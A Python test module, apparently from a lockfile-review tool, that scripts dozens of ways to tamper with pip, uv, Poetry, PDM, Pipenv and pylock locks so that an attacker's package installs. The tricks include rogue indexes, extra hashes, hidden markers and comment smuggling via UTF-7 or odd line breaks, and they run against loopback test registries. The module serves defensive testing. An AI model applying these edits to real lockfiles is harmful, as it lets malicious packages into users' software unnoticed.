"""Mechanisms in the locks of pip, uv, Poetry, PDM and Pipenv, in pylock.toml, and in the files beside them."""

import re
import sys
from typing import Any

from tests.hostile_locks.clients import PDM, PIP, PIPENV, POETRY, PYLOCK, UV
from tests.hostile_locks.mechanism import OUTSIDE, mechanism
from tests.hostile_locks.relocked_tricks import python_folder
from tests.hostile_locks.scene import (
    EVIL_SDIST,
    EVIL_WHEEL,
    GOOD_SDIST,
    GOOD_WHEEL,
    Scene,
    sha256,
)
from tests.hostile_locks.world import EVIL, python_wheel
from tests.loopback import PypiFile, PypiProject

_GULL_WHEEL = python_wheel("gull", "1.0.0", EVIL)
_GOOD, _EVIL, _GULL = (sha256(one.data) for one in (GOOD_WHEEL, EVIL_WHEEL, _GULL_WHEEL))
_GOOD_SDIST, _EVIL_SDIST = sha256(GOOD_SDIST.data), sha256(EVIL_SDIST.data)

_VENDORED = f"v/{EVIL_WHEEL.filename}"


def evil_wheel(scene: Scene) -> str:
    """Return where the attacker's server has the wheel of kite."""
    return scene.world.evil.pypi_file_url(EVIL_WHEEL)


def good_wheel(scene: Scene) -> str:
    """Return where the honest registry has it."""
    return scene.world.good.pypi_file_url(GOOD_WHEEL)


def _vendor(scene: Scene) -> None:
    scene.write(_VENDORED, EVIL_WHEEL.data)


# requirements.txt


def _pip(scene: Scene, kite: str, *before: str, fleet: str | None = None) -> None:
    """Replace the line of kite, and that of fleet; put lines before."""
    scene.sub(r"^kite==[^\n]+\n", f"{kite}\n")
    if fleet is not None:
        scene.sub(r"^fleet==[^\n]+", fleet)
    scene.write("requirements.txt", "".join(f"{line}\n" for line in before) + scene.lock)


_NO_DIGEST = "fleet==2.0.0"
_KITE = f"kite==1.1.0 --hash=sha256:{_GOOD}"
_EITHER = f"{_KITE} --hash=sha256:{_EVIL}"


@mechanism("two-digests", PIP, idea="1")
def pip_two_digests(scene: Scene) -> None:
    _pip(
        scene,
        f"kite==1.1.0 --hash=sha256:{_EVIL} --hash=sha256:{_GOOD}",
        f"--index-url {scene.world.evil.pypi_url}",
    )


@mechanism("index-option", PIP, idea="3")
def pip_index(scene: Scene) -> None:
    _pip(scene, "kite==1.1.0", f"--index-url {scene.world.evil.pypi_url}", fleet=_NO_DIGEST)


@mechanism("extra-index-option", PIP, idea="3")
def pip_extra_index(scene: Scene) -> None:
    _later(scene)
    _pip(scene, "kite>=1.1.0", f"--extra-index-url {scene.world.evil.pypi_url}", fleet=_NO_DIGEST)


def _later(scene: Scene) -> None:
    scene.world.evil.put_pypi(
        PypiProject(name="kite", files=(EVIL_WHEEL, python_wheel("kite", "1.2.0", EVIL)))
    )


@mechanism("find-links", PIP, idea="3")
def pip_find_links(scene: Scene) -> None:
    _vendor(scene)
    fleet = python_wheel("fleet", "2.0.0", "good")
    scene.write(f"v/{fleet.filename}", fleet.data)
    _pip(scene, _EITHER, "--no-index", "--find-links ./v")


@mechanism("no-binary", PIP, idea="3")
def pip_no_binary(scene: Scene) -> None:
    """Let the client build the sdist, which the honest registry has in a bad form, in place of the judged wheel."""
    scene.world.good.put_pypi(PypiProject(name="kite", files=(GOOD_WHEEL, EVIL_SDIST)))
    _pip(scene, f"{_KITE} --hash=sha256:{_EVIL_SDIST}", "--no-binary kite")


@mechanism("index-in-nested-file", PIP, idea="3")
def pip_nested_index(scene: Scene) -> None:
    scene.write("more.txt", f"--index-url {scene.world.evil.pypi_url}\n")
    _pip(scene, _EITHER, "-r more.txt")


@mechanism("index-in-constraints", PIP, idea="3")
def pip_constraints_index(scene: Scene) -> None:
    scene.write("limits.txt", f"--index-url {scene.world.evil.pypi_url}\n")
    _pip(scene, "kite==1.1.0", "-c limits.txt", fleet=_NO_DIGEST)


@mechanism("address-in-constraints", PIP, idea="3")
def pip_constraints_address(scene: Scene) -> None:
    scene.write("limits.txt", f"kite @ {evil_wheel(scene)}\n")
    _pip(scene, "kite", "-c limits.txt", fleet=_NO_DIGEST)


@mechanism("direct-address", PIP, idea="3")
def pip_direct(scene: Scene) -> None:
    _pip(scene, f"kite @ {evil_wheel(scene)} --hash=sha256:{_EVIL}")


@mechanism("local-archive", PIP, idea="2")
def pip_local_archive(scene: Scene) -> None:
    _vendor(scene)
    _pip(scene, f"./{_VENDORED} --hash=sha256:{_EVIL}")


@mechanism("local-archive-outside", PIP, idea="2")
def pip_archive_outside(scene: Scene) -> None:
    (scene.folder.parent / EVIL_WHEEL.filename).write_bytes(EVIL_WHEEL.data)
    _pip(scene, f"../{EVIL_WHEEL.filename} --hash=sha256:{_EVIL}")


@mechanism("local-folder", PIP, idea="2")
def pip_folder(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    _pip(scene, "./v/kite", fleet=_NO_DIGEST)


@mechanism("no-digest", PIP, idea=OUTSIDE)
def pip_no_deps(scene: Scene) -> None:
    """Ask for a package that needs one that the file does not name."""
    scene.world.good.put_pypi(
        PypiProject(name="tern", files=(python_wheel("tern", "1.0.0", "good", needs=("gull",)),))
    )
    _pip(scene, "kite==1.1.0\ntern==1.0.0", fleet=_NO_DIGEST)


@mechanism("unknown-marker", PIP, idea="4")
def pip_unknown_marker(scene: Scene) -> None:
    _pip(scene, f'{_KITE}\ngull==1.0.0 ; platform_release != "" --hash=sha256:{_GULL}')


@mechanism("marker-extra", PIP, idea=OUTSIDE)
def pip_marker_or(scene: Scene) -> None:
    marker = 'python_version < "3" or implementation_version >= "3" or os_name == "never"'
    _pip(scene, f"{_KITE}\ngull==1.0.0 ; {marker} --hash=sha256:{_GULL}")


@mechanism("line-continuation", PIP, idea=OUTSIDE)
def pip_continuation(scene: Scene) -> None:
    """Begin a comment with a line that a naive reader joins to the next one."""
    _pip(scene, f"{_KITE}\n# a comment \\\ngull==1.0.0 --hash=sha256:{_GULL}")


@mechanism("variable-in-address", PIP, idea=OUTSIDE)
def pip_variable(scene: Scene) -> None:
    url = evil_wheel(scene).replace("127.0.0.1", "${HOST_OF_FILES}")
    _pip(scene, f"kite @ {url} --hash=sha256:{_EVIL}")


@mechanism("encoding-line", PIP, idea=OUTSIDE)
def pip_encoding(scene: Scene) -> None:
    """Declare an encoding in which a comment holds a requirement."""
    _pip(scene, f"{_KITE}\n# +AAo-gull==1.0.0 --hash+AD0-sha256:{_GULL}", "# -*- coding: utf-7 -*-")
    scene.write("requirements.txt", scene.lock.replace("--hash=", "--hash+AD0-").replace("+AAo-", "+AAo-"))


@mechanism("form-feed-line", PIP, idea=OUTSIDE)
def pip_line_break(scene: Scene) -> None:
    """Break a line inside a comment with a character that one reader takes as a line break."""
    _pip(scene, f"{_KITE}\n# a comment\u2028gull==1.0.0 --hash=sha256:{_GULL}")


@mechanism("carriage-return", PIP, idea=OUTSIDE)
def pip_carriage_return(scene: Scene) -> None:
    _pip(scene, f"{_KITE}\n# a comment\rgull==1.0.0 --hash=sha256:{_GULL}")


@mechanism("folder-address", PIP, idea=OUTSIDE)
def pip_editable_comment(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    _pip(scene, "kite @ file:./v/kite", fleet=_NO_DIGEST)


# uv.lock


def _uv_kite(scene: Scene, change: Any) -> None:
    scene.sub(r'\[\[package\]\]\nname = "kite"\n.*\Z', lambda found: change(found[0]))


@mechanism("other-place", UV, idea="1")
def uv_other_place(scene: Scene) -> None:
    scene.replace(good_wheel(scene), evil_wheel(scene))
    scene.replace(_GOOD, _EVIL)


@mechanism("other-place-no-digest", UV, idea="5")
def uv_no_digest(scene: Scene) -> None:
    scene.replace(good_wheel(scene), evil_wheel(scene))
    scene.replace(f', hash = "sha256:{_GOOD}"', "")


def _special(scene: Scene, tag: str) -> tuple[PypiFile, str]:
    """Return one more wheel of the attacker's kite, and where his server has it."""
    special = python_wheel("kite", "1.1.0", EVIL, tag=tag)
    scene.world.evil.put_pypi(PypiProject(name="kite", files=(EVIL_WHEEL, special)))
    return special, scene.world.evil.pypi_file_url(special)


def _uv_row(scene: Scene, *rows: str) -> None:
    """Put rows before the wheels of kite."""
    added = "".join(f"    {{ {row} }},\n" for row in rows)
    _uv_kite(scene, lambda text: text.replace("wheels = [\n", f"wheels = [\n{added}"))


@mechanism("second-wheel-row", UV, idea="5")
def uv_second_row(scene: Scene) -> None:
    special, url = _special(scene, _own_tag())
    _uv_row(scene, f'url = "{url}", hash = "sha256:{sha256(special.data)}", size = {len(special.data)}')


def _own_tag() -> str:
    return f"cp{sys.version_info[0]}{sys.version_info[1]}-none-any"


@mechanism("second-wheel-row-no-digest", UV, idea="5")
def uv_second_row_no_digest(scene: Scene) -> None:
    _, url = _special(scene, _own_tag())
    _uv_row(scene, f'url = "{url}"')


@mechanism("build-number-row", UV, idea=OUTSIDE)
def uv_build_number(scene: Scene) -> None:
    """Add a wheel of the same tags with a build number, which installers prefer."""
    special, url = _special(scene, "9-py3-none-any")
    _uv_row(scene, f'url = "{url}", hash = "sha256:{sha256(special.data)}"')


@mechanism("other-registry", UV, idea="1")
def uv_other_registry(scene: Scene) -> None:
    uv_other_place(scene)
    good, evil = scene.world.good.pypi_url, scene.world.evil.pypi_url
    _uv_kite(scene, lambda text: text.replace(good, evil))


@mechanism("local-archive", UV, idea="2")
def uv_path(scene: Scene) -> None:
    _vendor(scene)
    _uv_source(
        scene,
        f'{{ path = "{_VENDORED}" }}',
        f'{{ filename = "{EVIL_WHEEL.filename}", hash = "sha256:{_EVIL}" }}',
    )


def _uv_source(scene: Scene, source: str, wheel: str | None) -> None:
    wheels = f"wheels = [\n    {wheel},\n]\n" if wheel else ""
    _uv_kite(scene, lambda _: f'[[package]]\nname = "kite"\nversion = "1.1.0"\nsource = {source}\n{wheels}')


@mechanism("local-registry", UV, idea=OUTSIDE)
def uv_flat_registry(scene: Scene) -> None:
    """Name a folder of the repository as the registry."""
    _vendor(scene)
    _uv_source(scene, '{ registry = "v" }', f'{{ path = "{EVIL_WHEEL.filename}" }}')


@mechanism("direct-address", UV, idea=OUTSIDE)
def uv_url(scene: Scene) -> None:
    _uv_source(
        scene,
        f'{{ url = "{evil_wheel(scene)}" }}',
        f'{{ url = "{evil_wheel(scene)}", hash = "sha256:{_EVIL}" }}',
    )


@mechanism("local-folder", UV, idea="2")
def uv_directory(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    _uv_source(scene, '{ directory = "v/kite" }', None)


@mechanism("editable-folder", UV, idea="2", in_place="v/kite")
def uv_editable(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    _uv_source(scene, '{ editable = "v/kite" }', None)


@mechanism("wheel-of-another-name", UV, PYLOCK, idea=OUTSIDE)
def uv_other_name(scene: Scene) -> None:
    _sizes_off(scene)
    scene.replace(good_wheel(scene), scene.world.good.pypi_file_url(_GULL_WHEEL))
    scene.replace(_GOOD, _GULL)


@mechanism("extra-dependency", UV, idea=OUTSIDE)
def uv_extra_dependency(scene: Scene) -> None:
    scene.replace('    { name = "kite" },\n', '    { name = "kite" },\n    { name = "gull" },\n')
    url, digest = scene.world.good.pypi_file_url(_GULL_WHEEL), _GULL
    index = scene.world.good.pypi_url
    scene.write(
        "uv.lock",
        f'{scene.lock}\n[[package]]\nname = "gull"\nversion = "1.0.0"\nsource = {{ registry = "{index}" }}\n'
        f'wheels = [\n    {{ url = "{url}", hash = "sha256:{digest}" }},\n]\n',
    )


@mechanism("hidden-by-marker", UV, idea="4")
def uv_marker(scene: Scene) -> None:
    """Ask for the attacker's package where a marker holds that a reader may not know."""
    uv_extra_dependency(scene)
    scene.replace('{ name = "gull" }', '{ name = "gull", marker = "platform_release != \'\'" }')


@mechanism("two-forks", UV, idea=OUTSIDE)
def uv_forks(scene: Scene) -> None:
    """Lock kite twice, with markers that hold for each Python but one."""
    marker = "python_full_version >= '3.11'"
    evil = (
        f'\n[[package]]\nname = "kite"\nversion = "1.0.0"\nsource = {{ registry = "{scene.world.good.pypi_url}" }}\n'
        f'resolution-markers = ["{marker}"]\n'
        f'wheels = [\n    {{ url = "{evil_wheel(scene)}", hash = "sha256:{_EVIL}" }},\n]\n'
    )
    scene.write("uv.lock", scene.lock + evil)
    text = scene.lock.replace(
        '{ name = "kite" }',
        f'{{ name = "kite", version = "1.0.0", source = {{ registry = "{scene.world.good.pypi_url}" }} }}',
    )
    scene.write("uv.lock", text)


@mechanism("wheels-by-python", UV, idea="4")
def uv_by_python(scene: Scene) -> None:
    """Hide the attacker's wheel between honest ones of other Pythons."""
    rows, files = [], [GOOD_WHEEL]
    for minor in (11, 12, 13, 14):
        side = EVIL if minor == sys.version_info[1] else "good"
        file = python_wheel("kite", "1.1.0", side, tag=f"cp3{minor}-cp3{minor}-manylinux_2_17_x86_64")
        files.append(file)
        url = scene.world.good.pypi_file_url(file)
        rows.append(f'url = "{url}", hash = "sha256:{sha256(file.data)}"')
    scene.world.good.put_pypi(PypiProject(name="kite", files=tuple(files)))
    _uv_row(scene, *rows)


@mechanism("entry-taken-out", UV, idea="6")
def uv_taken_out(scene: Scene) -> None:
    scene.write("uv.toml", f'[[index]]\nurl = "{scene.world.evil.pypi_url}"\ndefault = true\n')
    scene.sub(r'\[\[package\]\]\nname = "kite"\n.*\Z', "")


@mechanism("unanswered-in-manifest", UV, POETRY, PDM, idea="6")
def pyproject_asks(scene: Scene) -> None:
    scene.replace('"kite>=1.0.0,<2"', '"kite>=1.0.0,<2", "gull>=1"', "pyproject.toml")


@mechanism("unanswered-in-manifest", PIPENV, idea="6")
def pipfile_asks(scene: Scene) -> None:
    scene.replace('kite = "~=1.0"\n', 'kite = "~=1.0"\ngull = "*"\n', "Pipfile")


@mechanism("source-in-manifest", UV, idea="8")
def uv_sources(scene: Scene) -> None:
    text = (scene.folder / "pyproject.toml").read_text()
    scene.write("pyproject.toml", f'{text}\n[tool.uv.sources]\nkite = {{ url = "{evil_wheel(scene)}" }}\n')


@mechanism("settings-file", UV, idea="8", settings_file="uv.toml")
def uv_toml(scene: Scene) -> None:
    scene.write("uv.toml", f'[[index]]\nurl = "{scene.world.evil.pypi_url}"\ndefault = true\n')


# poetry.lock


def _poetry_kite(scene: Scene, old: str, new: str) -> None:
    def change(found: re.Match[str]) -> str:
        assert re.search(old, found[0], re.DOTALL), found[0]
        return re.sub(old, lambda _: new, found[0], count=1, flags=re.DOTALL)

    scene.sub(r'name = "kite"\n.*?(?=\[metadata\])', change)


_FILES = r"files = \[.*?\n\]\n"
_SOURCE = r"\[package\.source\]\n.*?\n\n"


_TWICE = (
    f'files = [\n    {{file = "{GOOD_WHEEL.filename}", hash = "sha256:{_GOOD}"}},\n'
    f'    {{file = "{GOOD_WHEEL.filename}", hash = "sha256:{_EVIL}"}},\n]\n'
)
_EVIL_ALONE = f'files = [\n    {{file = "{GOOD_WHEEL.filename}", hash = "sha256:{_EVIL}"}},\n]\n'


@mechanism("two-digests", POETRY, idea="1")
def poetry_two_digests(scene: Scene) -> None:
    """Name the attacker's index as the source, and let both digests of one file stand."""
    _poetry_source(scene)
    _poetry_kite(scene, _FILES, _TWICE)


@mechanism("other-place", POETRY, idea="1")
def poetry_other_place(scene: Scene) -> None:
    _poetry_source(scene)
    _poetry_kite(scene, _FILES, _EVIL_ALONE)


def _poetry_source(scene: Scene) -> None:
    evil = scene.world.evil.pypi_url.rstrip("/")
    text = (scene.folder / "pyproject.toml").read_text()
    source = f'[[tool.poetry.source]]\nname = "more"\nurl = "{evil}/"\npriority = "supplemental"\n'
    scene.write("pyproject.toml", f"{text}\n{source}")
    _poetry_accepts(scene)
    lock = f'[package.source]\ntype = "legacy"\nurl = "{evil}"\nreference = "more"\n\n'
    _poetry_kite(scene, _SOURCE, lock)


def _poetry_accepts(scene: Scene) -> None:
    """Give the lock the hash that Poetry computes of the changed pyproject.toml."""
    honest = scene.lock
    scene.relock()
    found = re.search(r"^content-hash = .*$", scene.lock, re.MULTILINE)
    assert found
    scene.write(scene.client.lock, re.sub(r"(?m)^content-hash = .*$", lambda _: found[0], honest))


@mechanism("source-behind-the-name", POETRY, idea=OUTSIDE)
def poetry_reference(scene: Scene) -> None:
    """Change what address a source's name stands for, in pyproject.toml alone."""
    scene.replace(scene.world.good.pypi_url, scene.world.evil.pypi_url, "pyproject.toml")
    _poetry_accepts(scene)
    _poetry_kite(scene, _FILES, _TWICE)


@mechanism("direct-address", POETRY, idea=OUTSIDE)
def poetry_url(scene: Scene) -> None:
    _poetry_kite(scene, _SOURCE, f'[package.source]\ntype = "url"\nurl = "{evil_wheel(scene)}"\n\n')
    _poetry_kite(scene, _FILES, _EVIL_ALONE)


@mechanism("local-archive", POETRY, idea="2")
def poetry_file(scene: Scene) -> None:
    _vendor(scene)
    _poetry_kite(scene, _SOURCE, f'[package.source]\ntype = "file"\nurl = "{_VENDORED}"\n\n')
    _poetry_kite(
        scene, _FILES, f'files = [\n    {{file = "{EVIL_WHEEL.filename}", hash = "sha256:{_EVIL}"}},\n]\n'
    )


@mechanism("local-folder", POETRY, idea="2")
def poetry_directory(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    _poetry_kite(scene, _SOURCE, '[package.source]\ntype = "directory"\nurl = "v/kite"\n\n')
    _poetry_kite(scene, _FILES, "files = []\n")


@mechanism("second-wheel-row", POETRY, PDM, idea="5")
def poetry_second_row(scene: Scene) -> None:
    """Add a more specific wheel, which the honest registry has from the attacker."""
    special = python_wheel("kite", "1.1.0", EVIL, tag=_own_tag())
    scene.world.good.put_pypi(PypiProject(name="kite", files=(GOOD_WHEEL, GOOD_SDIST, special)))
    scene.replace(
        f'    {{file = "{GOOD_WHEEL.filename}"',
        f'    {{file = "{special.filename}", hash = "sha256:{sha256(special.data)}"}},\n    {{file = "{GOOD_WHEEL.filename}"',
    )


@mechanism("extra-dependency", POETRY, idea=OUTSIDE)
def poetry_extra_dependency(scene: Scene) -> None:
    scene.replace('kite = ">=1.0.0"\n', 'kite = ">=1.0.0"\ngull = "*"\n')
    source = f'[package.source]\ntype = "legacy"\nurl = "{scene.world.good.pypi_url.rstrip("/")}"\nreference = "main"\n'
    block = (
        '[[package]]\nname = "gull"\nversion = "1.0.0"\ndescription = ""\noptional = false\npython-versions = ">=3"\n'
        f'groups = ["main"]\nmarkers = "os_name == \'posix\'"\nfiles = [\n    {{file = "{_GULL_WHEEL.filename}", hash = "sha256:{_GULL}"}},\n]\n\n{source}\n'
    )
    scene.sub(r"(?=^\[metadata\])", block)


@mechanism("entry-taken-out", POETRY, idea="6")
def poetry_taken_out(scene: Scene) -> None:
    scene.sub(r'\[\[package\]\]\nname = "kite"\n.*?(?=\[metadata\])', "")


# pdm.lock


@mechanism("other-place", PDM, idea="1")
def pdm_address(scene: Scene) -> None:
    """Give the file row an address, as static addresses are written."""
    scene.replace(
        f'{{file = "{GOOD_WHEEL.filename}", hash = "sha256:{_GOOD}"}}',
        f'{{url = "{evil_wheel(scene)}", hash = "sha256:{_EVIL}"}}',
    )
    scene.replace('strategy = ["inherit_metadata"]', 'strategy = ["inherit_metadata", "static_urls"]')


@mechanism("two-digests", PDM, idea="1")
def pdm_two_digests(scene: Scene) -> None:
    row = f'{{file = "{GOOD_WHEEL.filename}", hash = "sha256:'
    scene.replace(f'    {row}{_GOOD}"}}', f'    {row}{_GOOD}"}},\n    {row}{_EVIL}"}}')
    text = (scene.folder / "pyproject.toml").read_text()
    extra = f'[[tool.pdm.source]]\nname = "more"\nurl = "{scene.world.evil.pypi_url}"\ninclude_packages = ["kite"]\n'
    scene.write(
        "pyproject.toml",
        text.replace('name = "pypi"\n', 'name = "pypi"\nexclude_packages = ["kite"]\n') + extra,
    )


@mechanism("direct-address", PDM, idea=OUTSIDE)
def pdm_url(scene: Scene) -> None:
    scene.sub(
        r'(?<=name = "kite"\nversion = "1\.1\.0"\n)(.*\Z)',
        lambda found: f'url = "{evil_wheel(scene)}"\n{found[0]}',
    )
    scene.replace(_GOOD, _EVIL)


@mechanism("local-archive", PDM, idea="2")
def pdm_path(scene: Scene) -> None:
    _vendor(scene)
    scene.sub(
        r'(?<=name = "kite"\nversion = "1\.1\.0"\n)(.*\Z)',
        lambda found: f'path = "./{_VENDORED}"\n{found[0]}',
    )
    scene.replace(_GOOD, _EVIL)


# Pipfile.lock


def _pipenv(scene: Scene, **fields: object) -> None:
    def change(document: Any) -> None:
        kite = document["default"]["kite"]
        for key, value in fields.items():
            kite.pop(key, None) if value is None else kite.update({key: value})

    scene.json(change)


@mechanism("two-digests", PIPENV, idea="1")
def pipenv_two_digests(scene: Scene) -> None:
    def change(document: Any) -> None:
        more = {"name": "more", "url": scene.world.evil.pypi_url, "verify_ssl": False}
        document["_meta"]["sources"].append(more)
        document["default"]["kite"].update(index="more")
        document["default"]["kite"]["hashes"].append(f"sha256:{_EVIL}")

    scene.json(change)


@mechanism("direct-address", PIPENV, idea=OUTSIDE)
def pipenv_file(scene: Scene) -> None:
    _pipenv(scene, file=evil_wheel(scene), hashes=[f"sha256:{_EVIL}"], version=None, index=None)


@mechanism("local-archive", PIPENV, idea="2")
def pipenv_path(scene: Scene) -> None:
    _vendor(scene)
    _pipenv(scene, file=_VENDORED, hashes=[f"sha256:{_EVIL}"], version=None, index=None)


@mechanism("unknown-marker", PIPENV, idea="4")
def pipenv_marker(scene: Scene) -> None:
    def change(document: Any) -> None:
        document["default"]["gull"] = {
            "hashes": [f"sha256:{_GULL}"],
            "index": "main",
            "version": "==1.0.0",
            "markers": "platform_release != ''",
        }

    scene.json(change)


# pylock.toml


@mechanism("other-place", PYLOCK, idea="1")
def pylock_other_place(scene: Scene) -> None:
    scene.replace(good_wheel(scene), evil_wheel(scene))
    _sizes_off(scene)
    scene.replace(_GOOD, _EVIL)


@mechanism("local-archive", PYLOCK, idea="2")
def pylock_path(scene: Scene) -> None:
    _vendor(scene)
    scene.replace(f'url = "{good_wheel(scene)}"', f'path = "{_VENDORED}"')
    scene.sub(r"size = \d+, hashes = \{ sha256 = \"" + _GOOD + '" }', f'hashes = {{ sha256 = "{_EVIL}" }}')


def _sizes_off(scene: Scene) -> None:
    scene.write(scene.client.lock, re.sub(r" size = \d+,", "", scene.lock))


@mechanism("path-beside-address", PYLOCK, idea=OUTSIDE)
def pylock_both(scene: Scene) -> None:
    _vendor(scene)
    url = good_wheel(scene)
    _sizes_off(scene)
    scene.replace(f'url = "{url}"', f'url = "{url}", path = "{_VENDORED}"')
    scene.replace(f'sha256 = "{_GOOD}"', f'sha256 = "{_EVIL}"')


@mechanism("archive-entry", PYLOCK, idea=OUTSIDE)
def pylock_archive(scene: Scene) -> None:
    scene.sub(
        r'(?<=name = "kite"\nversion = "1\.1\.0"\n).*\Z',
        f'archive = {{ url = "{evil_wheel(scene)}", hashes = {{ sha256 = "{_EVIL}" }} }}\n',
    )


@mechanism("local-folder", PYLOCK, idea="2")
def pylock_directory(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    scene.sub(r'(?<=name = "kite"\n)version = "1\.1\.0"\n.*\Z', 'directory = { path = "v/kite" }\n')


@mechanism("unknown-marker", PYLOCK, idea="4")
def pylock_marker(scene: Scene) -> None:
    url, digest = scene.world.good.pypi_file_url(_GULL_WHEEL), _GULL
    block = (
        '\n[[packages]]\nname = "gull"\nversion = "1.0.0"\nmarker = "platform_release != \'\'"\n'
        f'wheels = [{{ url = "{url}", hashes = {{ sha256 = "{digest}" }} }}]\n'
    )
    scene.write(scene.client.lock, scene.lock + block)


@mechanism("second-wheel-row", PYLOCK, idea="5")
def pylock_second_row(scene: Scene) -> None:
    special, url = _special(scene, _own_tag())
    row = f'{{ url = "{url}", hashes = {{ sha256 = "{sha256(special.data)}" }} }}, '
    scene.sub(r'(?<=name = "kite").*\Z', lambda found: found[0].replace("wheels = [", f"wheels = [{row}"))
